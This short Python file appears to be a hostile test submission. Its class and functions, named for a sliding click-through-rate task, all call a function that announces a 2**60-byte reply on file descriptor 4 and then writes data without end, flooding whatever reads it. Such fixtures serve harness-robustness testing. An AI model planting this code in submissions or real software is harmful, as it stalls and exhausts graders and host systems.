"""Announces a reply of 2**60 bytes and sends without end."""

import os, struct


class SlidingCTR:
    def __init__(self, window):
        self.window = window

    def add(self, t, item, clicked):
        attack()

    def rate(self, t, item):
        return attack()


def replay(window, log):
    return attack()


def attack():
    os.write(4, struct.pack(">Q", 2**60))
    while True:
        os.write(4, b"x" * 65536)
